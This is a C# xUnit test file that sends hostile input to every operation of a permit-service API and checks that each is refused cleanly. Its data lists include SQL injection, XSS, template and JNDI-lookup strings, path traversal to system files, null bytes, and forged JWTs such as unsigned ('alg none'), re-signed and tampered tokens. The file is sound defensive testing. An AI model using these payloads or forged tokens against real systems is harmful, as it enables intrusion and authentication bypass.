using System.Collections.Concurrent;
using System.Net;
using System.Net.Http.Headers;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;
using Ptsp.EndToEnd.Tests.Infrastructure;
using Ptsp.Gateway.Tests.Infrastructure;
using Ptsp.Hosting.Auth;
using Xunit.Abstractions;

namespace Ptsp.Gateway.Tests;

/// <summary>
/// Every operation of the OpenAPI document, sent hostile input (issue 14, point 8): malformed and wrong-typed bodies, huge,
/// control and injection strings, impossible dates, foreign and unknown ids, traversal in path parameters, wrong content
/// types, wrong roles and forged tokens. No answer is a 5xx; every 4xx is problem details; nothing a refusal touched changed.
/// </summary>
public sealed class HostileInputSweepTests(InProcessPtsp ptsp, ITestOutputHelper output) : IClassFixture<InProcessPtsp>
{
    static readonly string[] HostileStrings =
    [
        "'; DROP TABLE applications; --",
        "\" OR 1=1 --",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://contoh.invalid/a}",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "a\u0000b",
        "\u0001\u0007\u001b[31m\r\n\t",
        "\u202Egnp.exe",
        "𝕏𝔸🙂",
        "",
        "   ",
        new string('A', 100_000),
    ];

    static readonly string[] BadDates =
        ["0001-01-01", "9999-12-31", "2026-02-30", "abc", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "2026-13-01T25:61:00Z", "-1"];

    static readonly string[] HostileSegments =
    [
        "..%2F..%2Fetc%2Fpasswd", "%2E%2E%2F%2E%2E%2Fetc%2Fpasswd", "..%5C..%5Cwin.ini", "%00", "%27%3B%20DROP%20TABLE%20x%3B--",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%7B%7B7*7%7D%7D", "not-a-guid", "00000000-0000-0000-0000-000000000000", "-1", "99999999999",
        new string('Z', 2_000),
    ];

    static readonly string[] HostileQueryValues = [.. HostileStrings.Take(11), .. BadDates, "-1", "0", "99999999999999999999", "1e9", new string('Q', 2_000)];

    [Fact]
    public async Task Every_operation_answers_hostile_input_with_problem_details_and_changes_nothing()
    {
        var document = await OpenApiSnapshotTests.DocumentAsync(ptsp);
        var operations = OpenApiSnapshotTests.Operations(document).ToList();
        Assert.True(operations.Count > 40, $"only {operations.Count} operations in the document");

        // The actors: two applicants, every officer role and the administrator. Applicant A owns a draft; nobody acts as A.
        var officers = await QuickPermit.OfficersAsync(ptsp.Api, InProcessPtsp.OfficerPassword);
        var (_, owner, _) = await QuickPermit.ApplicantAsync(ptsp.Api, ptsp.Mail, officers["FrontOffice"], "Ayu Lestari");
        var (_, stranger, _) = await QuickPermit.ApplicantAsync(ptsp.Api, ptsp.Mail, officers["FrontOffice"], "Bima Pratama");
        var foreign = await ptsp.Api.CreateApplicationAsync(owner, QuickPermit.PermitType, "CV Milik Orang Lain");
        await ptsp.Api.WaitForAsync(foreign, owner, "Draft", 3);
        var identities = new List<(string Name, string Token)> { ("pemohon lain", stranger) };
        identities.AddRange(officers.Select(o => (o.Key, o.Value)));

        var before = await StateAsync(officers, foreign, owner);

        var requests = new List<Probe>();
        var failures = new ConcurrentQueue<string>();
        var accepted = new ConcurrentQueue<string>();
        var started = DateTime.UtcNow;
        using var http = new HttpClient { BaseAddress = ptsp.ClientOptions.BaseAddress, Timeout = TimeSpan.FromSeconds(40) };
        foreach (var (method, path, operation) in operations)
        {
            var body = OpenApiSnapshotTests.Resolve(document, operation["requestBody"]);
            var schema = OpenApiSnapshotTests.Resolve(document, body?["content"]?["application/json"]?["schema"]);
            var parameters = (operation["parameters"]?.AsArray() ?? []).Select(p => OpenApiSnapshotTests.Resolve(document, p)!).ToList();
            var queries = parameters.Where(p => p["in"]?.GetValue<string>() == "query").Select(p => p["name"]!.GetValue<string>()).ToList();
            var bodies = method is "POST" or "PUT" or "PATCH" ? Bodies(document, schema).ToList() : [];
            var target = Fill(path, foreign);
            var declared = operation["responses"]!.AsObject().Select(r => r.Key).ToHashSet();

            // Each identity once without a body: a refusal by role is the same whatever the body, so the body and query
            // variants go to the identities the route lets through (and to no identity at all on an anonymous route).
            var through = new List<(string Name, string? Token)>();
            var (anonymousStatus, _) = await SendAsync(http, new Probe(method, target, null, null, "tanpa token"), default);
            if (anonymousStatus != 401)
                through.Add(("anonim", null));
            else
                foreach (var ((name, token), (status, failure)) in identities.Zip(await Task.WhenAll(identities.Select(i =>
                             SendAsync(http, new Probe(method, target, i.Token, null, $"{i.Name}: milik orang lain", declared), default)))))
                {
                    if (failure is not null)
                        failures.Enqueue(failure);
                    else if (status is not (401 or 403))
                        through.Add((name, token));
                }

            foreach (var (index, (name, token)) in through.Index())
            {
                // Foreign ids (another applicant's application) and unknown ones, with no body or an empty one.
                requests.Add(new Probe(method, Fill(path, Guid.NewGuid()), token, null, $"{name}: id acak", declared));
                // A route any signed-in user may call reads the body alike for all: two identities suffice (a password check is slow by design).
                foreach (var (variant, content) in index < (path.StartsWith("/api/v1/auth/", StringComparison.Ordinal) ? 1 : 2) ? bodies : [])
                    requests.Add(new Probe(method, target, token, content, $"{name}: {variant}", declared));
                foreach (var query in index < 2 ? queries : [])
                foreach (var value in HostileQueryValues)
                    requests.Add(new Probe(method, $"{target}?{query}={Uri.EscapeDataString(value)}", token, null, $"{name}: ?{query}", declared));
            }

            // Traversal and junk in every path parameter (one identity that may reach the route: the administrator or an officer).
            if (path.Contains('{', StringComparison.Ordinal))
                foreach (var segment in HostileSegments)
                foreach (var (name, token) in through.Take(2))
                    requests.Add(new Probe(method, FillRaw(path, segment), token, Json("{}"), $"{name}: path {segment[..Math.Min(30, segment.Length)]}"));

            // A method the route does not have.
            requests.Add(new Probe("PATCH", target, officers["Administrator"], Json("{}"), "metode lain"));
        }

        // Unknown documents and routes are problem details too.
        foreach (var path in new[] { "/openapi/v2.json", "/openapi/..%2F..%2Fetc%2Fpasswd.json", "/api/v1/tidak-ada", "/api/v2/applications" })
            requests.Add(new Probe("GET", path, null, null, "alamat tak dikenal"));

        var statuses = new ConcurrentDictionary<int, int>();
        var durations = new ConcurrentDictionary<string, TimeSpan>();
        // A password check is slow by design (PBKDF2) and Registration checks them one at a time: two in flight keep
        // the sign-in routes inside the Gateway's request timeout on a busy machine.
        using var passwordChecks = new SemaphoreSlim(2);
        output.WriteLine($"set-up and role probes: {(DateTime.UtcNow - started).TotalSeconds:0} s");
        await Parallel.ForEachAsync(requests, new ParallelOptions { MaxDegreeOfParallelism = 8 }, async (probe, cancellationToken) =>
        {
            var slow = probe.Path.StartsWith("/api/v1/auth/", StringComparison.Ordinal);
            if (slow)
                await passwordChecks.WaitAsync(cancellationToken);
            var watch = System.Diagnostics.Stopwatch.StartNew();
            int status;
            string? failure;
            try
            {
                (status, failure) = await SendAsync(http, probe, cancellationToken);
            }
            finally
            {
                if (slow)
                    passwordChecks.Release();
            }

            statuses.AddOrUpdate(status, 1, (_, n) => n + 1);
            durations.AddOrUpdate($"{probe.Method} {probe.Path.Split('?')[0]}", watch.Elapsed, (_, d) => d + watch.Elapsed);
            if (failure is not null)
                failures.Enqueue(failure);
            else if (status is >= 200 and < 300 && probe.Method is not ("GET" or "HEAD") && !AnsweredByDesign(probe))
                accepted.Enqueue($"{probe} → {status}");
        });

        // Tokens that are not the agency's: each is answered exactly as no token would be.
        var forged = ForgedTokens(officers["Administrator"]);
        var forgedProbes = operations.Select(o => (o.Method, Path: Fill(o.Path, foreign))).ToList();
        await Parallel.ForEachAsync(forgedProbes, new ParallelOptions { MaxDegreeOfParallelism = 8 }, async (probe, _) =>
        {
            var (method, path) = probe;
            var body = method is "POST" or "PUT" or "PATCH" ? "{}" : null;
            var (anonymous, anonymousFailure) = await SendAsync(http, new Probe(method, path, null, body is null ? null : Json(body), "tanpa token"), default);
            if (anonymousFailure is not null)
                failures.Enqueue(anonymousFailure);
            foreach (var (name, token) in forged)
            {
                var (status, failure) = await SendAsync(http, new Probe(method, path, token, body is null ? null : Json(body), name), default, rawAuthorization: true);
                if (failure is not null)
                    failures.Enqueue(failure);
                else if (status != anonymous && status != 429 && anonymous != 429)
                    failures.Enqueue($"{method} {path} [{name}] answered {status}, without a token {anonymous}");
            }
        });

        var elapsed = DateTime.UtcNow - started;
        output.WriteLine($"{operations.Count} operations, {requests.Count + forgedProbes.Count * (forged.Count + 1)} requests in {elapsed.TotalSeconds:0} s; " +
                         $"answers {string.Join(", ", statuses.OrderBy(s => s.Key).Select(s => $"{s.Key}: {s.Value}"))}");

        foreach (var slow in durations.OrderByDescending(d => d.Value).Take(8))
            output.WriteLine($"  {slow.Value.TotalSeconds,6:0.0} s  {Shorten(slow.Key)}");
        var after = await StateAsync(officers, foreign, owner);
        var report = new StringBuilder();
        foreach (var failure in failures)
            output.WriteLine(failure);
        foreach (var failure in failures.Take(60))
            report.AppendLine(failure);
        foreach (var line in accepted.Take(40))
            report.AppendLine($"hostile input accepted: {line}");
        Assert.True(failures.IsEmpty && accepted.IsEmpty, $"{failures.Count} wrong answers, {accepted.Count} hostile inputs accepted:\n{report}");
        Assert.Equal(before, after);

        // The accounts used still sign in and their tokens still work: no refusal changed a password or ended a session.
        await ptsp.Api.TokenAsync("admin", InProcessPtsp.OfficerPassword);
        await PtspClient.Expect(await ptsp.Api.GetAsync("/api/v1/applications", stranger), HttpStatusCode.OK);
    }

    [Fact]
    public async Task A_report_period_outside_the_supported_years_is_a_400_problem_not_a_500()
    {
        var head = await ptsp.Api.TokenAsync("kepala", InProcessPtsp.OfficerPassword);
        foreach (var query in new[] { "from=0001-01-01&to=2026-01-01", "from=2026-01-01&to=9999-12-31", "from=0001-01-01T00:00:00%2B14:00&to=2026-01-01",
                     "from=1999-12-31&to=2000-06-01" })
        {
            await PtspClient.ExpectProblem(await ptsp.Api.GetAsync($"/api/v1/reports/sla?{query}", head), HttpStatusCode.BadRequest);
            await PtspClient.ExpectProblem(await ptsp.Api.GetAsync($"/api/v1/reports/skm?{query}", head), HttpStatusCode.BadRequest);
        }

        var refused = await PtspClient.ExpectProblem(await ptsp.Api.GetAsync("/api/v1/reports/sla?from=0001-01-01&to=2026-01-01", head),
            HttpStatusCode.BadRequest, "from");
        Assert.Contains("2000-01-01", refused["errors"]!["from"]![0]!.GetValue<string>());
        await PtspClient.Expect(await ptsp.Api.GetAsync("/api/v1/reports/sla?from=2026-01-01&to=2026-06-30", head), HttpStatusCode.OK);
    }

    [Fact]
    public async Task An_unknown_openapi_document_is_a_404_problem()
    {
        await PtspClient.ExpectProblem(await ptsp.Api.GetAsync("/openapi/v2.json"), HttpStatusCode.NotFound);
        await PtspClient.Expect(await ptsp.Api.GetAsync("/openapi/v1.json"), HttpStatusCode.OK);
    }

    [Fact]
    public async Task An_officer_form_with_null_roles_sectors_or_appointments_is_refused_field_by_field()
    {
        var admin = await ptsp.Api.TokenAsync("admin", InProcessPtsp.OfficerPassword);
        var before = await (await ptsp.Api.GetAsync("/api/v1/officers", admin)).Content.ReadAsStringAsync();
        var response = await ptsp.Api.PostRawAsync("/api/v1/officers",
            "{\"username\":\"uji.null\",\"fullName\":\"Uji Null\",\"email\":\"uji.null@purwakartakab.go.id\",\"roles\":[null]," +
            "\"sectors\":[null],\"actingAppointments\":[null,{\"role\":null,\"kind\":null,\"from\":\"0001-01-01T00:00:00Z\",\"until\":\"9999-12-31T00:00:00Z\"}]}",
            admin);
        await PtspClient.ExpectProblem(response, HttpStatusCode.BadRequest, "roles", "sectors", "actingAppointments[0]", "actingAppointments[1].role");
        Assert.Equal(before, await (await ptsp.Api.GetAsync("/api/v1/officers", admin)).Content.ReadAsStringAsync());
    }

    /// <summary>
    /// Answers that are 2xx for any input by design: the reset request says the same whether the address exists; the
    /// verification of an uploaded PDF is a question (its answer says whether the file is a genuine decision).
    /// </summary>
    static bool AnsweredByDesign(Probe probe) =>
        (probe.Path.StartsWith("/api/v1/auth/password-reset", StringComparison.Ordinal) && !probe.Path.Contains("confirm", StringComparison.Ordinal))
        || probe.Path == "/api/v1/verify";

    /// <param name="Declared">The operation's response codes in the document: an answer outside them is a contract the document does not tell.</param>
    sealed record Probe(string Method, string Path, string? Token, Func<HttpContent>? Content, string Variant, IReadOnlySet<string>? Declared = null)
    {
        public override string ToString() => $"{Method} {Shorten(Path)} [{Shorten(Variant)}]";
    }

    static string Shorten(string text) => text.Length > 120 ? text[..120] + "…" : text;

    static Func<HttpContent> Json(string json, string contentType = "application/json") =>
        () => new StringContent(json, Encoding.UTF8, MediaTypeHeaderValue.Parse(contentType));

    static async Task<(int Status, string? Failure)> SendAsync(HttpClient http, Probe probe, CancellationToken cancellationToken, bool rawAuthorization = false)
    {
        using var request = new HttpRequestMessage(new HttpMethod(probe.Method), probe.Path);
        if (probe.Content is not null)
            request.Content = probe.Content();
        if (probe.Token is not null)
        {
            if (rawAuthorization)
                request.Headers.TryAddWithoutValidation("Authorization", probe.Token);
            else
                request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", probe.Token);
        }

        HttpResponseMessage response;
        try
        {
            response = await http.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, cancellationToken);
        }
        catch (Exception e) when (e is HttpRequestException or TaskCanceledException)
        {
            return (0, $"{probe} → no answer: {e.GetType().Name} {e.Message}");
        }

        using (response)
        {
            var status = (int)response.StatusCode;
            if (probe.Declared is { } declared && status != 429 && !declared.Contains(status.ToString(System.Globalization.CultureInfo.InvariantCulture)))
                return (status, $"{probe} → {status}, not declared in the OpenAPI document ({string.Join(", ", declared.Order())})");
            // Kestrel refuses a NUL in the path before any application code runs (400, no body): the protocol's answer, not ours.
            if (status == 400 && probe.Path.Contains("%00", StringComparison.Ordinal) && response.Content.Headers.ContentLength is 0 or null
                && response.Content.Headers.ContentType is null)
                return (status, null);
            if (response.Content.Headers.ContentType?.MediaType == "text/event-stream")
                return (status, null); // the push channel stays open: its headers are the answer
            var text = await response.Content.ReadAsStringAsync(cancellationToken);
            if (status >= 500)
                return (status, $"{probe} → {status}: {Shorten(text)}");
            if (status < 400)
                return (status, null);
            if (response.Content.Headers.ContentType?.MediaType != "application/problem+json")
                return (status, $"{probe} → {status} as {response.Content.Headers.ContentType?.MediaType ?? "no content type"}: {Shorten(text)}");
            try
            {
                var problem = JsonNode.Parse(text);
                if (problem?["status"]?.GetValue<int>() != status || string.IsNullOrWhiteSpace(problem["title"]?.GetValue<string>()))
                    return (status, $"{probe} → {status} without title/status: {Shorten(text)}");
            }
            catch (Exception e) when (e is JsonException or InvalidOperationException or FormatException)
            {
                return (status, $"{probe} → {status} problem is not JSON: {Shorten(text)}");
            }

            return (status, null);
        }
    }

    /// <summary>The body variants for an operation: broken JSON, wrong shapes and types, hostile strings and dates in every field, wrong content types.</summary>
    static IEnumerable<(string Variant, Func<HttpContent> Content)> Bodies(JsonNode document, JsonNode? schema)
    {
        yield return ("JSON rusak", Json("{\"a\":"));
        yield return ("JSON terpotong", Json("{\"reason\": \"abc"));
        yield return ("badan kosong", Json(""));
        yield return ("null", Json("null"));
        yield return ("larik", Json("[]"));
        yield return ("teks", Json("\"teks\""));
        yield return ("angka", Json("12"));
        yield return ("bersarang dalam", Json(new string('[', 5_000) + new string(']', 5_000)));
        if (schema is null)
            yield return ("surrogate tunggal", Json("{\"reason\": \"\\ud800\", \"businessName\": \"\\udfff\"}"));
        else
            yield return ("surrogate tunggal di setiap teks", Json(Build(document, schema, Mode.Strings, Marker, 0)!.ToJsonString()
                .Replace($"\"{Marker}\"", "\"a\\ud800b\"", StringComparison.Ordinal)));
        yield return ("text/plain", Json("{}", "text/plain"));
        yield return ("application/xml", Json("<a>'; DROP TABLE x; --</a>", "application/xml"));
        yield return ("form", Json("a=b&c=%00", "application/x-www-form-urlencoded"));
        yield return ("multipart", () => new MultipartFormDataContent { { new StringContent("x"), "file", "../../etc/passwd" } });
        yield return ("biner", () => new ByteArrayContent(RandomNumberGenerator.GetBytes(4_096)) { Headers = { ContentType = new MediaTypeHeaderValue("application/octet-stream") } });
        yield return ("PDF palsu", () => new ByteArrayContent("%PDF-1.7\n<script>alert(1)</script>"u8.ToArray()) { Headers = { ContentType = new MediaTypeHeaderValue("application/pdf") } });
        if (schema is null)
            yield break;

        yield return ("tipe salah", Json(Build(document, schema, Mode.WrongType, null, 0)!.ToJsonString()));
        foreach (var value in HostileStrings)
            yield return ($"teks \"{Shorten(value)}\"", Json(Build(document, schema, Mode.Strings, value, 0)!.ToJsonString()));
        foreach (var date in BadDates)
            yield return ($"tanggal {date}", Json(Build(document, schema, Mode.Dates, date, 0)!.ToJsonString()));
    }

    const string Marker = "@@penanda@@";

    enum Mode { WrongType, Strings, Dates }

    /// <summary>A value for <paramref name="schema"/>: wrong-typed, or with <paramref name="value"/> in every string (or date) field.</summary>
    static JsonNode? Build(JsonNode document, JsonNode? schema, Mode mode, string? value, int depth)
    {
        schema = OpenApiSnapshotTests.Resolve(document, schema);
        if (schema is null || depth > 6)
            return null;
        foreach (var key in new[] { "oneOf", "anyOf", "allOf" })
            if (schema[key] is JsonArray choices && choices.Select(c => OpenApiSnapshotTests.Resolve(document, c))
                    .FirstOrDefault(c => TypeOf(c) != "null") is { } first)
                return Build(document, first, mode, value, depth);

        var type = TypeOf(schema);
        var format = schema["format"]?.GetValue<string>();
        switch (type)
        {
            case "object":
            {
                var result = new JsonObject();
                foreach (var (name, property) in schema["properties"]?.AsObject() ?? [])
                    result[name] = Build(document, property, mode, value, depth + 1);
                if (schema["additionalProperties"] is JsonObject extra)
                    result["kunci"] = Build(document, extra, mode, value, depth + 1);
                return mode == Mode.WrongType && depth > 0 ? JsonValue.Create(42) : result;
            }
            case "array":
                return mode == Mode.WrongType ? JsonValue.Create("bukan larik") : new JsonArray(Build(document, schema["items"], mode, value, depth + 1));
            case "string" when format is "date" or "date-time":
                return mode switch { Mode.WrongType => JsonValue.Create(true), _ => JsonValue.Create(value) };
            case "string":
                return mode switch { Mode.WrongType => JsonValue.Create(12345), Mode.Strings => JsonValue.Create(value), _ => null };
            case "integer" or "number":
                return mode switch { Mode.WrongType => JsonValue.Create("dua belas"), Mode.Strings => JsonValue.Create(-99999999999L), _ => null };
            case "boolean":
                return mode switch { Mode.WrongType => JsonValue.Create("ya"), Mode.Strings => JsonValue.Create(value), _ => null };
            default:
                return mode == Mode.Strings ? JsonValue.Create(value) : null;
        }
    }

    static string? TypeOf(JsonNode? schema) => schema?["type"] switch
    {
        JsonValue v => v.GetValue<string>(),
        JsonArray a => a.Select(t => t!.GetValue<string>()).FirstOrDefault(t => t != "null") ?? "null",
        _ => schema?["properties"] is not null ? "object" : null,
    };

    /// <summary>The path with its id parameter set to <paramref name="id"/> and every other parameter to a plausible value.</summary>
    static string Fill(string path, Guid id) => System.Text.RegularExpressions.Regex.Replace(path, "\\{([^}]+)\\}", m => m.Groups[1].Value switch
    {
        "id" => id.ToString(),
        "year" => "2026",
        "requirementCode" => "KTP",
        _ => "503%2F0001%2FIZN%2FXI%2F2026",
    });

    static string FillRaw(string path, string segment) => System.Text.RegularExpressions.Regex.Replace(path, "\\{[^}]+\\}", segment);

    /// <summary>Tokens the Gateway must not believe: another key's, unsigned (alg none), expired, for another audience, a role added, junk.</summary>
    List<(string Name, string Authorization)> ForgedTokens(string genuine)
    {
        var key = ptsp.Services.GetRequiredService<JwtSigningKey>().Key.Key;
        var parts = genuine.Split('.');
        var header = JsonNode.Parse(Decode(parts[0]))!.AsObject();
        var payload = JsonNode.Parse(Decode(parts[1]))!.AsObject();
        var otherKey = RandomNumberGenerator.GetBytes(64);

        var expired = payload.DeepClone().AsObject();
        var past = DateTimeOffset.UtcNow.AddHours(-3).ToUnixTimeSeconds();
        expired["iat"] = past - 3600;
        expired["nbf"] = past - 3600;
        expired["exp"] = past;
        var otherAudience = payload.DeepClone().AsObject();
        otherAudience["aud"] = "layanan-lain";
        var none = new JsonObject { ["alg"] = "none", ["typ"] = "JWT" };

        return
        [
            ("kunci lain", "Bearer " + Sign(header, payload, otherKey)),
            ("alg none", $"Bearer {Encode(none)}.{Encode(payload)}."),
            ("alg none tanpa titik", $"Bearer {Encode(none)}.{Encode(payload)}"),
            ("kedaluwarsa", "Bearer " + Sign(header, expired, key)),
            ("audiens lain", "Bearer " + Sign(header, otherAudience, key)),
            ("tanda tangan diubah", $"Bearer {parts[0]}.{parts[1]}.{parts[2][..^4]}AAAA"),
            ("sampah", "Bearer abc.def.ghi"),
            ("Bearer kosong", "Bearer "),
            ("skema Basic", "Basic YWRtaW46YWRtaW4="),
            ("sangat panjang", "Bearer " + new string('x', 6_000)),
        ];
    }

    static string Sign(JsonObject header, JsonObject payload, byte[] key)
    {
        var unsigned = $"{Encode(header)}.{Encode(payload)}";
        return $"{unsigned}.{Base64Url(HMACSHA256.HashData(key, Encoding.ASCII.GetBytes(unsigned)))}";
    }

    static string Encode(JsonNode node) => Base64Url(Encoding.UTF8.GetBytes(node.ToJsonString()));

    static string Base64Url(byte[] bytes) => Convert.ToBase64String(bytes).TrimEnd('=').Replace('+', '-').Replace('/', '_');

    static string Decode(string text)
    {
        var padded = text.Replace('-', '+').Replace('_', '/');
        padded += new string('=', (4 - padded.Length % 4) % 4);
        return Encoding.UTF8.GetString(Convert.FromBase64String(padded));
    }

    /// <summary>What a refusal must not have changed, read through the API: applications, the owner's draft, accounts, registrations, the calendar.</summary>
    async Task<string> StateAsync(IReadOnlyDictionary<string, string> officers, Guid foreign, string owner)
    {
        var state = new StringBuilder();
        async Task Read(string path, string token, params string[] keep)
        {
            var response = await ptsp.Api.GetAsync(path, token);
            await PtspClient.Expect(response, HttpStatusCode.OK);
            var node = JsonNode.Parse(await response.Content.ReadAsStringAsync());
            state.Append(path).Append(": ").AppendLine(keep.Length == 0 ? node!.ToJsonString() : Keep(node!, keep).ToJsonString());
        }

        await Read("/api/v1/applications", officers["FrontOffice"], "applicationId", "status", "currentStep", "permitTypeCode");
        await Read($"/api/v1/applications/{foreign}", owner, "status", "currentStep", "businessName", "history", "step", "action", "actor", "note");
        await Read($"/api/v1/applications/{foreign}/business-data", owner);
        await Read($"/api/v1/applications/{foreign}/documents", owner);
        await Read("/api/v1/officers", officers["Administrator"]);
        foreach (var status in new[] { "Pending", "Approved", "Rejected" })
            await Read($"/api/v1/registrations?status={status}", officers["FrontOffice"], "registrationId", "fullName", "nik", "email");
        foreach (var year in new[] { 2026, 2027 })
            await Read($"/api/v1/calendar?year={year}", officers["Administrator"]);
        return state.ToString();
    }

    /// <summary>Only the named properties, at every depth (times that move with the clock are left out).</summary>
    static JsonNode Keep(JsonNode node, string[] keep) => node switch
    {
        JsonArray array => new JsonArray(array.Select(n => n is null ? null : Keep(n, keep)).ToArray()),
        JsonObject obj => new JsonObject(obj.Where(p => keep.Contains(p.Key))
            .Select(p => KeyValuePair.Create(p.Key, p.Value is null ? null : Keep(p.Value, keep)))),
        _ => node.DeepClone(),
    };
}
